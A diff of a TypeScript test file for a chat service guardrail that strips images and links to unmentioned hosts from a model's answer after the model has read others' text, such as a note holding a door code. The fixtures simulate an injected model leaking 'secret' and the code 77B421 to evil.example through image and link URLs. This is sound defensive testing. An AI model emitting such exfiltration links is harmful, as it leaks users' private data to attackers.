@@ -319,20 +319,46 @@ describe("answer of a model that obeys a prompt injection", () => {
     expect(JSON.stringify(final.content)).toContain("withheld");
   });
 
-  it("contains no links or images of hosts that the user did not mention", async () => {
-    const answer = () => ["See ![x](https://evil.exam", "ple/p.png?d=secret) and https://evil.example/", "?q=secret."];
-    const frames = await ask(answer);
-    expect(streamedText(frames)).toBe("See ![x]([image removed]) and [link removed].");
-    const known = await ask(answer, "Which links does evil.example have?");
-    expect(streamedText(known)).toContain("https://evil.example/?q=secret");
+  /** Asks in a conversation with a note, which is text of others for the model. */
+  const askWithNote = async (answer: () => readonly string[], content: string, asker = client) => {
+    upstream.script = (response, request) => streamText([...answer()])(response, request);
+    const conversation_id = await asker.createConversation();
+    await asker.post("/v1/notes", { title: "Visit", body: "The door code of the museum is 77B421.", conversation_id });
+    return asker.chat({ conversation_id, content, tier: "QUICK" });
+  };
+
+  it("keeps every link if the model has read no text of others", async () => {
+    const text = "See ![x](https://evil.example/p.png?d=secret) and [a](https://evil.example/?q=77B421#b).";
+    expect(streamedText(await ask(() => [text]))).toBe(text);
+  });
+
+  it("contains no images of hosts that the user did not mention, and no links with private text, after a note", async () => {
+    const answer = () => [
+      "See ![x](https://evil.exam",
+      "ple/p.png) and [the door](https://evil.example/?q=",
+      "77b421).",
+    ];
+    const frames = await askWithNote(answer, "Where is it?");
+    expect(streamedText(frames)).toBe("See x and the door.");
+    const known = await askWithNote(answer, "Which links does https://evil.example/ have?");
+    expect(streamedText(known)).toContain("[the door](https://evil.example/?q=77b421)");
+    const named = await askWithNote(answer, "Which links does evil.example have?");
+    expect(streamedText(named)).toBe("See x and the door.");
+  });
+
+  it("loses links always if the policy says so", async () => {
+    const member = new Client(newIdentity(), service.baseUrl);
+    await setPolicy(member, { guardrails: { ...defaultGuardrailPolicy, link_removal: "always" } });
+    const frames = await ask(() => ["See ![x](https://evil.example/p.png)."], "Hello", member);
+    expect(streamedText(frames)).toBe("See x.");
   });
 
   it("may link to hosts that the tenant's policy allows", async () => {
     const member = new Client(newIdentity(), service.baseUrl);
     await setPolicy(member, { guardrails: { ...defaultGuardrailPolicy, allowed_link_hosts: ["example.com"] } });
-    const answer = () => ["See https://wiki.example.com/?q=rest and https://wiki.example.org/?q=rest"];
-    const frames = await ask(answer, "Where do I read more?", member);
-    expect(streamedText(frames)).toBe("See https://wiki.example.com/?q=rest and [link removed]");
+    const answer = () => ["See https://wiki.example.com/?q=77B421 and https://wiki.example.org/?q=77B421"];
+    const frames = await askWithNote(answer, "Where do I read more?", member);
+    expect(streamedText(frames)).toBe("See https://wiki.example.com/?q=77B421 and [link removed]");
   });
 });
 
